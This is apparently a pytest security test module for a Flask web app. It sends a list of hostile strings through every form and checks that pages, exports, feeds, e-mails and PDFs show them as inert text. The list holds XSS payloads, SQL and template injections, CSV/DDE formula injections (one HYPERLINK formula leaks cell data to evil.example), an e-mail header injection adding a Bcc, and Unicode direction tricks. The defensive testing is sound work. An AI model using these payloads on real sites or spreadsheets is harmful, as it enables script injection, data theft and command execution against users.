"""Hostile input everywhere: every field a user fills, read back everywhere it can appear.

Each hostile string goes in through a real form post (or a URL, or a header), then the test reads
every place the value can show: the page, the htmx fragment, GeoJSON, CSV exports, e-mails in the
outbox and the PDF report. It must appear as text, never as markup or a formula, and no request may
answer 500. The browser part (the map popup) is tests/browser/test_hostile_input.py.

One test per surface, one app and database for it: the test sends every string of SENT in turn
(`each_hostile`; all of HOSTILE in CI's full run, one of each kind in `make test`), puts the rows
it made back as they were after each one, and fails at the end naming every string that broke the
surface and why. Each such test runs as two cases, one per half
of the strings (the `hostile` fixture), and the GET filters as one case per URL, so that
pytest-xdist spreads them over the cores. To cover a new form, add one line to SURFACES (or to
QUERY_URLS for a GET filter).
"""

import csv
import functools
import io
import json
import traceback
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from itertools import count as numbers
from urllib.parse import quote

import feedparser
import pytest
from bs4 import BeautifulSoup
from bs4.builder._htmlparser import HTMLParserTreeBuilder
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import delete, func, select

from tests import factories
from tests.conftest import FULL_RUN, make_app
from tests.helpers import count
from wishboard.extensions import db
from wishboard.models import (
    COMMENT_MAX_LENGTH,
    PITCH_MAX_LENGTH,
    OutboxMessage,
    Premises,
    Role,
    ShopProject,
    ShopType,
    User,
    Wish,
    WishStatus,
)
from wishboard.services import outbox
from wishboard.services.csv_export import FORMULA_STARTS
from wishboard.services.people import meetings
from wishboard.services.reports import mail as report_mail
from wishboard.services.reports.formats import pdf_available
from wishboard.services.reports.links import report_key, unsubscribe_key
from wishboard.settings import settings as app_settings

ENGLISH = {"Accept-Language": "en"}
HTMX = {**ENGLISH, "HX-Request": "true"}
PWNED = "window.__pwned=1"

# name -> a string a hostile user would type. Names are how failures name them.
HOSTILE: dict[str, str] = {
    "script_tag": f"<script>{PWNED}</script>",
    "img_onerror": f'"><img src=x onerror="{PWNED}">',
    "svg_onload": f"<svg/onload={PWNED}>",
    "attribute_break": f"' autofocus onfocus='{PWNED}' x='",
    "javascript_link": f"javascript:{PWNED}",
    "iframe": '<iframe src="javascript:parent.__pwned=1"></iframe>',
    "sql_drop": "Robert'); DROP TABLE users;--",
    "sql_or": "' OR '1'='1' --",
    "sql_like": "%_%\\%",
    "jinja": "{{ 7*7 }}{% if 1 %}x{% endif %}",
    "format_string": "%(email)s %s {0} %n",
    "rtl_override": "Rue \u202eexe.tnemucod\u202c des Lilas",
    "zero_width": "Bou\u200bla\u200cnge\u200drie\ufeff",
    "long_10000": "A" * 10_000,
    "nul_byte": "Bakery\x00<script>" + PWNED + "</script>",
    "hyperlink_formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus_formula": "+cmd|' /C calc'!A0",
    "minus_formula": "-2+3+cmd|' /C calc'!A0",
    "at_formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "cr_formula": "\r=1+1",
    "header_injection": "Hello\r\nBcc: victim@example.org",
    "emoji_combining": "Cafe\u0301 \U0001f950 Z\u0351\u0352\u0353",
}
HOSTILE_IDS = list(HOSTILE)
# One string of each kind, for `make test`; the full run of CI (HYPOTHESIS_PROFILE=ci) sends
# them all. The kinds: markup that runs, a link that runs, SQL, a template, direction and
# invisible characters, length, a NUL byte, a spreadsheet formula (two starters), a header break.
EACH_KIND = (
    "script_tag",
    "attribute_break",
    "javascript_link",
    "sql_drop",
    "jinja",
    "rtl_override",
    "long_10000",
    "nul_byte",
    "hyperlink_formula",
    "tab_formula",
    "header_injection",
    "emoji_combining",
)
SENT = HOSTILE if FULL_RUN else {name: HOSTILE[name] for name in EACH_KIND}


@pytest.fixture
def app() -> Iterator[Flask]:
    """conftest's `app` (a fresh in-memory database), with fewer shop types.

    Of the taxonomy's hundred shop types it keeps the bakery and the first type of each group:
    most pages list every type (in filters and forms), trusted text that costs this module's
    thousands of pages a third of their time and tests nothing here.
    """
    app = make_app()
    with app.app_context():
        first = select(func.min(ShopType.position)).group_by(ShopType.group_id)
        db.session.execute(
            delete(ShopType).where(ShopType.code != "shop=bakery", ShopType.position.not_in(first))
        )
        db.session.commit()
        yield app
        db.session.remove()
        db.engine.dispose()


# Every hostile string through one surface; the failures of all of them at the end


def _max_id(model) -> int:
    return db.session.scalar(select(func.max(model.id))) or 0


def _failure(name: str, value: str | None, error: Exception) -> str:
    """A few lines: the string, the lines of this module where it broke, and what went wrong."""
    frames = traceback.extract_tb(error.__traceback__)
    here = [
        frame for frame in frames if frame.filename == __file__ and frame.name != "each_hostile"
    ]
    where = "".join(f"line {frame.lineno} ({frame.name}): {frame.line}\n" for frame in here)
    reason = f"{where}{type(error).__name__}: {error}".strip().replace("\n", "\n      ")
    if len(reason) > 1500:
        reason = reason[:1500] + " [...]"
    if value is not None:
        name = f"{name} ({value[:40]!r}{'...' if len(value) > 40 else ''})"
    return f"  - {name}:\n      {reason}"


def halves(values: dict[str, str]) -> list[dict[str, str]]:
    """`values` in two halves, in their order."""
    names = list(values)
    middle = len(names) // 2
    return [{name: values[name] for name in part} for part in (names[:middle], names[middle:])]


@pytest.fixture(params=halves(SENT), ids=lambda part: f"{next(iter(part))}..{[*part][-1]}")
def hostile(request: pytest.FixtureRequest) -> dict[str, str]:
    """Half of the hostile strings: each test of them all runs as two cases.

    This module sends some seven thousand requests; in halves, a case takes a few seconds and a
    failure names its half. Each case sets up its own world, as a test of its own, so both halves
    start from the same one.
    """
    return request.param


def each_hostile(
    surface: str,
    check: Callable[[str], None],
    tidy: tuple = (),
    finish: Callable[[], None] | None = None,
    values: dict[str, str] = SENT,
) -> None:
    """Run `check(value)` for every hostile string; fail at the end naming each one that broke.

    Rows of the `tidy` models that one string's turn added are deleted after it (in that order,
    their dependants by the database's cascades), so that each string meets the world the test set
    up, as it would in a test of its own. `finish()`, when given, runs once after them all: for the
    pages that list what every string left.
    """
    failures = []
    for name, value in values.items():
        marks = [(model, _max_id(model)) for model in tidy]
        try:
            check(value)
        except Exception as error:  # noqa: BLE001  (one broken string must not hide the others)
            failures.append(_failure(name, value, error))
        finally:
            db.session.rollback()
            for model, mark in marks:
                db.session.execute(delete(model).where(model.id > mark))
            db.session.commit()
    if finish is not None:
        try:
            finish()
        except Exception as error:  # noqa: BLE001
            failures.append(_failure(f"the pages listing {', '.join(values)}", None, error))
    if failures:
        pytest.fail(
            f"{surface}: {len(failures)} failure(s) for {len(values)} hostile strings\n"
            + "\n".join(failures),
            pytrace=False,
        )


# What "shown as text, never executed" means on an HTML answer

# How BeautifulSoup's "html.parser" builder reads a page: which tags hold no content, and which
# hold strings that are not the page's text (scripts, styles, templates, ruby annotations).
_SOUP = HTMLParserTreeBuilder()
_EMPTY_TAGS = frozenset(_SOUP.empty_element_tags)
_NOT_TEXT = frozenset(_SOUP.string_containers)


class PageReader(HTMLParser):
    """One pass over a page: the markup in it that would run, its text, its inputs' values.

    It reads the page as `BeautifulSoup(html, "html.parser")` does (the same tokenizer; the
    same tags closing others, and the same strings left out of `get_text()`), at a third of the
    cost: this module reads some ten thousand answers. test_the_page_reader_reads_as_beautiful_soup
    holds it to that.
    """

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []  # the markup that would run, described
        self.strings: list[str] = []  # the text a reader sees, one string per text node
        self.inputs: dict[str, str] = {}  # name -> value of each <input>, the first one of a name
        self.next_page: str | None = None  # where the first rel="next" link leads
        self._open: list[str] = []
        self._data: list[str] = []
        self.feed(html)
        self.close()

    @property
    def text(self) -> str:
        """The text a reader sees, one space between words (as `page_text` of the soup)."""
        return " ".join(" ".join(self.strings).split())

    def _end_data(self) -> None:
        # A text node ends where markup starts: it belongs to the innermost open element.
        data, self._data = "".join(self._data), []
        container = next((name for name in reversed(self._open) if name in _NOT_TEXT), None)
        if container is None:
            self.strings.append(data)
        elif container == "script" and "__pwned" in data:
            self.found.append(f"a <script> holding {data[:80]!r}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self._data:
            self._end_data()
        values = dict(attrs)  # as BeautifulSoup: a repeated attribute keeps its last value
        handlers = [name for name in values if name.startswith("on")]  # names come lower-cased
        if handlers:
            self.found.append(f"<{tag}> with the event handler(s) {handlers}")
        if tag == "iframe":
            self.found.append("an <iframe>")
        elif tag == "img" and values.get("src") == "x":
            self.found.append("an <img src=x>")
        elif tag == "input" and "name" in values:
            self.inputs.setdefault(values["name"], values.get("value") or "")
        elif tag == "a" and "next" in (values.get("rel") or "").split() and not self.next_page:
            self.next_page = values.get("href")
        for name in ("href", "action", "src"):
            link = values.get(name)
            if link and link.strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={link[:60]!r}>")
        if tag not in _EMPTY_TAGS:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._data:
            self._end_data()
        if tag in self._open:  # closes it and whatever it holds still open; else ignored
            while self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        self._data.append(data)

    def handle_comment(self, data: str) -> None:
        if self._data:
            self._end_data()

    def handle_decl(self, decl: str) -> None:
        if self._data:
            self._end_data()

    def handle_pi(self, data: str) -> None:
        if self._data:
            self._end_data()

    def unknown_decl(self, data: str) -> None:
        if self._data:
            self._end_data()
        if data.upper().startswith("CDATA["):  # CDATA is text to BeautifulSoup
            self.strings.append(data[len("CDATA[") :])

    def close(self) -> None:
        super().close()
        if self._data:
            self._end_data()


@functools.lru_cache(maxsize=1024)
def read_page(html: str) -> PageReader:
    """`html` read once: two in five of the answers this module reads repeat one read before."""
    return PageReader(html)


def assert_inert(html: str, where: str = "the answer") -> PageReader:
    """No markup of the hostile strings made it into `html` as markup: handlers, frames, links."""
    page = read_page(html)
    if page.found:
        raise AssertionError(f"{where}: markup that would run: {page.found}")
    return page


def read_inert(html: str) -> str:
    """The text a reader sees of `html`, once `assert_inert` passed."""
    return assert_inert(html).text


def page_text(soup: BeautifulSoup) -> str:
    """The text a reader sees, one space between words (BeautifulSoup keeps entities decoded)."""
    return " ".join(soup.get_text(" ").split())


def shown(value: str) -> str:
    """How `value` reads on a page once whitespace is collapsed (what a reader sees)."""
    return " ".join(value.split())


def csv_cell(value: str) -> str:
    """`value` as a CSV export must write it: a would-be formula behind a quote."""
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value


def assert_safe_csv(body: bytes, value: str | None = None) -> list[list[str]]:
    """Every cell of the CSV is safe in a spreadsheet; `value` appears (neutralised) in one."""
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    if value is not None:
        assert csv_cell(value) in cells, f"{csv_cell(value)!r} in no cell of the CSV"
    return rows


def csrf(client: FlaskClient) -> str:
    """The CSRF token of the client's session, read from a form page."""
    page = read_page(client.get("/auth/login", headers=ENGLISH).get_data(as_text=True))
    return page.inputs["csrf_token"]


def no_server_error(response) -> None:
    """The answer is no 5xx (its start shown if it is)."""
    assert response.status_code < 500, response.get_data(as_text=True)[:500]


def refused_by_forms(value: str, max_length: int) -> bool:
    """Whether a form field refuses `value`: control characters, or too long once stripped."""
    return "\x00" in value or len(value.strip()) > max_length


def signed_in(app, role: Role | str = Role.RESIDENT, **overrides) -> tuple[FlaskClient, User]:
    """A new client signed in as a new user of `role`."""
    user = factories.make_user(role=Role(role), **overrides)
    db.session.commit()
    client = app.test_client()
    with client.session_transaction() as session:
        session["_user_id"] = user.get_id()
        session["_fresh"] = True
    return client, user


def _get_inert(client: FlaskClient, url: str, headers: dict | None, page) -> PageReader:
    if page is None:
        page = client.get(url, headers=headers or ENGLISH)
    assert page.status_code == 200, (url, page.status_code)
    fragment = client.get(url, headers={**(headers or ENGLISH), "HX-Request": "true"})
    assert fragment.status_code == 200, (url, fragment.status_code)
    assert_inert(fragment.get_data(as_text=True), f"{url} (htmx)")
    return assert_inert(page.get_data(as_text=True), url)


def get_inert(client: FlaskClient, url: str, headers: dict | None = None, page=None) -> str:
    """GET `url` as a page and as an htmx fragment: both 200 and inert; the page's text.

    `page`: the page's answer when the caller has just fetched it (the same GET is not sent twice).
    """
    return _get_inert(client, url, headers, page).text


def get_pages(client: FlaskClient, url: str, page=None) -> list[str]:
    """`get_inert` of `url` and of every next page it links to (a list): the text of each page."""
    texts = []
    for _ in range(50):
        reader = _get_inert(client, url, None, page)
        texts.append(reader.text)
        if reader.next_page is None:
            return texts
        url, page = reader.next_page, None
    raise AssertionError(f"{url}: more than 50 pages")


def assert_email_safe(message: OutboxMessage, value: str) -> None:
    """An outbox e-mail shows `value` as text in its HTML part, and can be built and sent."""
    assert shown(value) in read_inert(message.body_html or "")
    email = outbox.build_email(message, "Wishboard <noreply@example.org>")
    assert "\n" not in email["Subject"] and "\r" not in email["Subject"]
    assert email["Bcc"] is None


def json_strings(data) -> list[str]:
    """Every string value inside decoded JSON `data`."""
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        data = list(data.values())
    if isinstance(data, list):
        return [text for item in data for text in json_strings(item)]
    return []


def pdf_text(body: bytes) -> str:
    """The text a PDF reader extracts, whitespace collapsed."""
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(body))
    # Some fonts come out as UTF-16 with a NUL before each letter: those NULs are not text.
    text = " ".join(page.extract_text() for page in reader.pages).replace("\x00", "")
    return " ".join(text.split())


def ascii_words(value: str) -> list[str]:
    """The plain words of `value` a PDF's extracted text must hold (its layout may split others)."""
    words = [word for word in value.split() if word.isascii() and word.isprintable()]
    return [word for word in words if len(word) < 40]


def newest(model, after: int):
    """The one row of `model` with an id above `after` (made since `after` was read)."""
    return db.session.scalars(select(model).where(model.id > after)).one()


def _runs_by_soup(html: str) -> bool:
    """Whether `html` holds markup that would run, by CSS selectors on BeautifulSoup's tree."""
    soup = BeautifulSoup(html, "html.parser")
    handlers = soup.find_all(lambda tag: any(name.lower().startswith("on") for name in tag.attrs))
    frames = soup.select("iframe, svg[onload], img[src=x], [autofocus][onfocus]")
    links = [
        tag.get(name, "") for name in ("href", "action", "src") for tag in soup.select(f"[{name}]")
    ]
    scripts = [script.get_text() for script in soup.find_all("script")]
    return bool(
        handlers
        or frames
        or [link for link in links if link.strip().lower().startswith("javascript:")]
        or [text for text in scripts if "__pwned" in text]
    )


SAMPLES = [
    *HOSTILE.values(),
    "<p>a &amp; b &lt;c&gt; &#34;d&#39; &eacute;&#x41;&#150; &nbsp;</p>",
    "<p>x<!-- hidden --><![CDATA[shown]]><?pi x?></p><!DOCTYPE html>",
    "<div><script>var a = '</div>'; window.__pwned=1</script>after</div>",
    "<template><p>not text</p></template><ruby>kan<rt>not</rt><rp>(</rp></ruby><style>p{}</style>",
    "<ul><li>one<li>two</ul><p>unclosed<b>bold</p>tail</b><br></br><img src=y>",
    "<a href=' JavaScript:x'>x</a><form action='javascript:y'></form><svg><script>x</script></svg>",
    "<div onclick=x>a</div><input autofocus onfocus=x><img src=x><img src=x/>",
    "<textarea><b>kept</b></textarea><title>T</title><script/>after<script>__pwned",
    "<form><input name=a value=1><input name=a value=2><input name=b><input value=c></form>",
]


def test_the_page_reader_reads_as_beautiful_soup(app):
    place = factories.make_premises(address=HOSTILE["img_onerror"])
    factories.make_wish(place, comment=HOSTILE["attribute_break"])
    db.session.commit()
    client, _ = signed_in(app, Role.MODERATOR)
    pages = [client.get(url).get_data(as_text=True) for url in ("/", f"/premises/{place.id}")]
    pages.append(client.get("/moderation/", headers=HTMX).get_data(as_text=True))

    for html in [*SAMPLES, *pages]:
        page = PageReader(html)
        soup = BeautifulSoup(html, "html.parser")
        assert bool(page.found) == _runs_by_soup(html), html
        assert page.text == page_text(soup), html
        first = {}
        for field in soup.select("input[name]"):
            first.setdefault(field["name"], field.get("value", ""))
        assert page.inputs == first, html
    assert PageReader(SAMPLES[-4]).found and not PageReader(pages[0]).found


# Wishes, comments and what readers see of them


def _landlords_premises() -> Premises:
    """New premises with a landlord to report to."""
    place = factories.make_premises(landlord_email="owner@example.org", landlord_name="Owner")
    db.session.commit()
    return place


def test_a_wish_comment_is_text_everywhere_it_shows(app, hostile):
    moderator_client, _ = signed_in(app, Role.MODERATOR)
    moderator_token = csrf(moderator_client)

    def check(value: str) -> None:
        premises = _landlords_premises()
        resident_client, resident = signed_in(app)
        before = count(Wish)

        response = resident_client.post(
            f"/premises/{premises.id}/wishes",
            data={
                "csrf_token": csrf(resident_client),
                "shop_type": "shop=bakery",
                "comment": value,
            },
            headers=ENGLISH,
        )

        no_server_error(response)
        if refused_by_forms(value, COMMENT_MAX_LENGTH):
            assert response.status_code == 422
            assert_inert(response.get_data(as_text=True))
            assert count(Wish) == before
            return
        assert response.status_code == 303
        wish = db.session.scalars(select(Wish).where(Wish.author_id == resident.id)).one()
        comment = wish.comment
        assert comment and shown(comment) == shown(value)
        assert wish.status is WishStatus.PENDING  # free text waits for a moderator

        queue = get_inert(moderator_client, "/moderation/")
        assert shown(comment) in queue
        response = moderator_client.post(
            f"/moderation/wishes/{wish.id}/publish",
            data={"csrf_token": moderator_token},
            headers=ENGLISH,
        )
        no_server_error(response)
        db.session.expire_all()
        assert db.session.get(Wish, wish.id).status is WishStatus.PUBLISHED

        visitor = app.test_client()
        detail = get_inert(visitor, f"/premises/{premises.id}")
        assert shown(comment) in detail
        assert shown(comment) in get_inert(resident_client, "/me/wishes")
        report_page = get_inert(resident_client, f"/wishes/{wish.id}/report")
        assert shown(comment) in report_page

        exported = json.loads(resident_client.get("/me/data.json").get_data(as_text=True))
        assert comment in json_strings(exported)

        report = get_inert(moderator_client, f"/landlord/premises/{premises.id}/report")
        assert shown(comment) in report
        csv_response = moderator_client.get(f"/landlord/premises/{premises.id}/report.csv")
        assert csv_response.status_code == 200
        assert_safe_csv(csv_response.data, comment)
        # The PDF: test_the_pdf_report_shows_every_hostile_text_as_text (one PDF for all strings).

    each_hostile("a wish's comment", check, tidy=(Premises,), values=hostile)


def test_an_area_wish_comment_and_position_are_text(app, hostile):
    moderator_client, _ = signed_in(app, Role.MODERATOR)

    def check(value: str) -> None:
        client, resident = signed_in(app)
        token = csrf(client)
        before = count(Wish)

        # A hostile position is refused as a number, and nothing is written.
        bad = client.post(
            "/area-wishes/new",
            data={
                "csrf_token": token,
                "shop_type": "shop=bakery",
                "latitude": value,
                "longitude": value,
                "comment": "x",
            },
            headers=ENGLISH,
        )
        no_server_error(bad)
        assert bad.status_code == 422
        assert_inert(bad.get_data(as_text=True))
        assert count(Wish) == before
        no_server_error(client.get(f"/area-wishes/new?latitude={quote(value)}&longitude=2.38"))

        response = client.post(
            "/area-wishes/new",
            data={
                "csrf_token": token,
                "shop_type": "shop=bakery",
                "latitude": "48.87",
                "longitude": "2.38",
                "comment": value,
            },
            headers=HTMX,
        )
        no_server_error(response)
        assert_inert(response.get_data(as_text=True))
        if refused_by_forms(value, COMMENT_MAX_LENGTH):
            assert response.status_code == 422
            assert count(Wish) == before
            return
        assert response.status_code == 200
        wish = db.session.scalars(select(Wish).where(Wish.author_id == resident.id)).one()
        assert shown(wish.comment) in get_inert(moderator_client, "/moderation/")
        assert shown(wish.comment) in get_inert(client, "/me/wishes")

    each_hostile("an area wish's position and comment", check, tidy=(Wish,), values=hostile)


def test_a_flag_reason_is_text_for_moderators(app, hostile):
    moderator_client, _ = signed_in(app, Role.MODERATOR)

    def check(value: str) -> None:
        wish = factories.make_wish(_landlords_premises(), comment="Une boulangerie")
        db.session.commit()
        client, _ = signed_in(app)
        token = csrf(client)
        prefix = f"report-{wish.id}"

        response = client.post(
            f"/wishes/{wish.id}/report",
            data={
                "csrf_token": token,
                f"{prefix}-reason": "other",
                f"{prefix}-reason_text": value,
            },
            headers=ENGLISH,
        )

        no_server_error(response)
        assert_inert(response.get_data(as_text=True))
        flags = get_inert(moderator_client, "/moderation/flags")
        if response.status_code == 303:
            assert shown(value.strip())[:40] in flags
        else:
            assert response.status_code == 422
        # A hostile reason code (not from the list) is refused too.
        odd = client.post(
            f"/wishes/{wish.id}/report",
            data={"csrf_token": token, f"{prefix}-reason": value},
            headers=HTMX,
        )
        no_server_error(odd)
        assert_inert(odd.get_data(as_text=True))

    # Deleting the premises deletes its wish and the wish's flags.
    each_hostile("a flag's reason", check, tidy=(Premises,), values=hostile)


def test_the_pdf_report_shows_every_hostile_text_as_text(app):
    if not pdf_available():
        pytest.skip("WeasyPrint cannot run here")
    place = factories.make_premises(address='<b>12</b> rue =HYPERLINK("x")')
    accepted = {
        name: value
        for name, value in HOSTILE.items()
        if not refused_by_forms(value, COMMENT_MAX_LENGTH) and name != "long_10000"
    }
    for n, value in enumerate(accepted.values()):
        author = factories.make_user(display_name=f"<i>Author {n}</i>")
        factories.make_wish(place, author=author, comment=value, shop_type=factories.shop_type())
    db.session.commit()
    client, _ = signed_in(app, Role.MODERATOR)

    response = client.get(f"/landlord/premises/{place.id}/report.pdf", headers=ENGLISH)

    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    text = pdf_text(response.data)
    squeezed = text.replace(" ", "")
    assert "<b>12</b>" in squeezed
    missing = [
        (name, word)
        for name, value in accepted.items()
        for word in ascii_words(value)
        if word.replace(" ", "") not in squeezed
    ]
    assert missing == [], f"words of these hostile strings are missing from the PDF: {missing}"


def test_a_window_poster_shows_hostile_addresses_and_shop_type_labels_as_text(app):
    if not pdf_available():
        pytest.skip("WeasyPrint cannot run here")
    client, _ = signed_in(app, Role.MODERATOR)
    district = factories.make_district('<svg onload="x">Belleville</svg>')
    shown = []  # every address and shop type label the posters must show as text
    for value in HOSTILE.values():
        if "\x00" in value or len(value) > 200:
            continue  # refused by every form that sets an address or a label
        place = factories.make_premises(address=value, district=district)
        factories.make_support(place, code=factories.make_shop_type(label_en=value[:60]).code)
        shown += [value, value[:60]]
    db.session.commit()

    response = client.get(f"/moderation/posters.pdf?district={district.id}", headers=ENGLISH)

    assert response.status_code == 200
    squeezed = pdf_text(response.data).replace(" ", "")
    assert '<svgonload="x">Belleville</svg>' in squeezed
    missing = [
        (value, word)
        for value in shown
        for word in ascii_words(value)
        if word.replace(" ", "") not in squeezed
    ]
    assert missing == [], f"words of these hostile strings are missing from the posters: {missing}"


def test_a_shop_project_s_pitch_is_text_for_its_holder_and_the_landlords(app, hostile):
    holder_client, holder = signed_in(app, Role.ENTREPRENEUR)
    staff_client, _ = signed_in(app, Role.MODERATOR)
    place = factories.make_premises(landlord_email="owner@example.org")
    db.session.commit()
    token = PageReader(holder_client.get("/projects/new").get_data(as_text=True)).inputs[
        "csrf_token"
    ]

    def check(value: str) -> None:
        response = holder_client.post(
            "/projects/new",
            data={
                "csrf_token": token,
                "shop_type": "shop=bakery",
                "districts": str(place.district_id),
                "horizon": "soon",
                "visibility": "landlords",
                "pitch": value,
            },
            headers=ENGLISH,
        )
        no_server_error(response)
        assert_inert(response.get_data(as_text=True))
        if refused_by_forms(value, PITCH_MAX_LENGTH):
            assert response.status_code == 422
            return
        assert response.status_code == 303
        project = db.session.scalars(
            select(ShopProject).where(ShopProject.owner_id == holder.id)
        ).one()
        meetings.express_interest(holder, project, place, app_settings())
        for client, url, with_pitch in (
            (holder_client, "/projects/", True),
            (holder_client, f"/projects/{project.id}/premises", False),
            (staff_client, f"/landlord/premises/{place.id}/report", True),
        ):
            page = assert_inert(client.get(url, headers=ENGLISH).get_data(as_text=True), url)
            if with_pitch:
                assert shown(value.strip()) in shown(" ".join(page.strings)), url
        for message in db.session.scalars(select(OutboxMessage)):
            assert_inert(message.body_html or "", "an e-mail")

    each_hostile("a shop project's pitch", check, tidy=(ShopProject, OutboxMessage), values=hostile)


# Accounts: register, sign in, reset, the display name wherever staff and e-mails show it

STRONG_PASSWORD = "a long and unusual passphrase 42"


def test_a_display_name_is_text_in_pages_and_e_mails(app, hostile):
    admin_client, _ = signed_in(app, Role.ADMIN)
    moderator_client, _ = signed_in(app, Role.MODERATOR)
    accounts = numbers(1)

    def check(value: str) -> None:
        client = app.test_client()
        address = f"new{next(accounts)}@example.org"
        before = count(User)
        messages = _max_id(OutboxMessage)

        response = client.post(
            "/auth/register",
            data={
                "csrf_token": csrf(client),
                "email": address,
                "display_name": value,
                "password": STRONG_PASSWORD,
                "confirm": STRONG_PASSWORD,
            },
            headers=ENGLISH,
        )

        no_server_error(response)
        if response.status_code == 422:
            assert refused_by_forms(value, 60) or not value.strip()
            assert_inert(response.get_data(as_text=True))
            assert count(User) == before
            return
        assert response.status_code == 303
        user = db.session.scalars(select(User).where(User.email == address)).one()
        assert shown(user.display_name) == shown(value)
        message = newest(OutboxMessage, messages)
        assert message.recipient == address
        assert_email_safe(message, user.display_name)
        assert shown(user.display_name) in get_inert(client, "/me")

        found = get_inert(admin_client, f"/admin/users?q={quote(address.split('.')[0])}")
        assert shown(user.display_name) in found
        profile = get_inert(admin_client, f"/admin/users/{user.id}")
        assert shown(user.display_name) in profile

        factories.make_wish(author=user, comment="Une boulangerie", status=WishStatus.PENDING)
        db.session.commit()
        assert shown(user.display_name) in get_inert(moderator_client, "/moderation/")

    # Deleting the premises of the pending wish takes it out of the moderators' queue.
    each_hostile("a display name", check, tidy=(Premises,), values=hostile)


def test_hostile_e_mail_addresses_and_passwords_are_refused_as_text(app, hostile):
    def check(value: str) -> None:
        client = app.test_client()
        users, messages = count(User), count(OutboxMessage)
        token = csrf(client)

        answers = [
            client.post(
                "/auth/register",
                data={
                    "csrf_token": token,
                    "email": value,
                    "display_name": "Bob",
                    "password": value,
                    "confirm": value,
                },
                headers=ENGLISH,
            ),
            client.post("/auth/reset", data={"csrf_token": token, "email": value}, headers=ENGLISH),
            client.post(
                "/auth/login",
                data={"csrf_token": token, "email": value, "password": value, "next": value},
                headers=ENGLISH,
            ),
            client.get(f"/auth/login?next={quote(value)}", headers=ENGLISH),
        ]

        for response in answers:
            no_server_error(response)
            assert response.status_code in (200, 422), (response.request.path, response.status_code)
            page = assert_inert(response.get_data(as_text=True))
            # The e-mail typed comes back in its field, as the value of the input, not as markup.
            if page.inputs.get("email"):
                assert page.inputs["email"] == value.strip()
        assert (count(User), count(OutboxMessage)) == (users, messages)

    each_hostile("e-mail addresses and passwords", check, values=hostile)


def test_a_user_search_is_text(app, hostile):
    client, _ = signed_in(app, Role.ADMIN)

    def check(value: str) -> None:
        for url in (
            f"/admin/users?q={quote(value)}",
            f"/admin/users?role={quote(value)}&state={quote(value)}",
        ):
            for headers in (ENGLISH, HTMX):
                response = client.get(url, headers=headers)
                no_server_error(response)
                assert response.status_code in (200, 400, 422), (url, response.status_code)
                assert_inert(response.get_data(as_text=True))

    each_hostile("the user search", check, values=hostile)


# Staff: the premises form, the import file, shop-type labels


def premises_form(client: FlaskClient, **overrides) -> dict[str, str]:
    """A valid post of the new-premises form for `client`, with `overrides`."""
    return {
        "csrf_token": csrf(client),
        "address": "12 rue de Belleville",
        "postcode": "75019",
        "city": "Paris",
        "district": "Belleville",
        "latitude": "48.8722",
        "longitude": "2.3810",
        "surface_m2": "45",
        "reference": "BEL-001",
        "landlord_name": "Marie Dupont",
        "landlord_email": "marie@example.org",
        "notes": "",
        **overrides,
    }


def feature_of(collection: dict, premises_id: int) -> dict:
    """The GeoJSON feature of premises `premises_id`."""
    return next(f for f in collection["features"] if f["properties"]["id"] == premises_id)


def test_premises_texts_are_text_on_every_page_map_file_and_e_mail(app, hostile):
    factories.make_district("Belleville")
    db.session.commit()
    client, _ = signed_in(app, Role.MODERATOR)
    form = premises_form(client)  # one session, one token: the valid values of every post

    def check(value: str) -> None:
        before, mark = count(Premises), _max_id(Premises)
        # A postcode is free text (towns abroad) of at most 10 characters.
        texts = {
            "address": value,
            "city": value,
            "reference": value,
            "landlord_name": value,
            "notes": value,
            "postcode": value[:10],
        }

        # Typed fields (numbers, a district from the list, an e-mail) refuse it; nothing written.
        for field in ("district", "latitude", "longitude", "surface_m2", "landlord_email"):
            refused = client.post(
                "/moderation/premises/new", data={**form, field: value}, headers=ENGLISH
            )
            no_server_error(refused)
            assert refused.status_code == 422, field
            assert_inert(refused.get_data(as_text=True))
        assert count(Premises) == before

        response = client.post("/moderation/premises/new", data={**form, **texts}, headers=ENGLISH)

        no_server_error(response)
        assert_inert(response.get_data(as_text=True))
        if response.status_code == 422:
            assert refused_by_forms(value, 64) or not value.strip()
            assert count(Premises) == before
            return
        assert response.status_code == 303
        place = newest(Premises, mark)
        address = place.address
        assert shown(address) == shown(value)
        factories.make_support(place)
        db.session.commit()

        for url in (
            "/moderation/premises",
            f"/moderation/premises?q={quote(address[:100])}",
            f"/moderation/premises/{place.id}/edit",
            "/premises",
            f"/premises/{place.id}",
            f"/landlord/premises/{place.id}/report",
            "/moderation/audit",
        ):
            text = get_inert(client, url)
            if "audit" not in url:
                assert shown(address) in text, url
        visitor = app.test_client()
        assert shown(address) in get_inert(visitor, f"/premises/{place.id}")

        geojson = json.loads(client.get("/api/premises.geojson").get_data(as_text=True))
        assert feature_of(geojson, place.id)["properties"]["address"] == address
        assert_safe_csv(client.get("/api/demand.csv").data, address)
        feed = feedparser.parse(client.get("/feeds/town.atom", headers=ENGLISH).data)
        assert not feed.bozo, feed.get("bozo_exception")
        assert feed.entries[0].title == f"Empty premises: {address}"
        rows = assert_safe_csv(
            client.get(f"/landlord/premises/{place.id}/report.csv").data, address
        )
        assert rows
        audit = client.get("/moderation/audit.csv")
        assert audit.status_code == 200
        assert_safe_csv(audit.data)

        messages = _max_id(OutboxMessage)
        sent = client.post(
            f"/moderation/premises/{place.id}/send-report",
            data={"csrf_token": form["csrf_token"]},
            headers=ENGLISH,
        )
        no_server_error(sent)
        message = newest(OutboxMessage, messages)
        assert_email_safe(message, address)
        assert shown(place.landlord_name) in PageReader(message.body_html).text

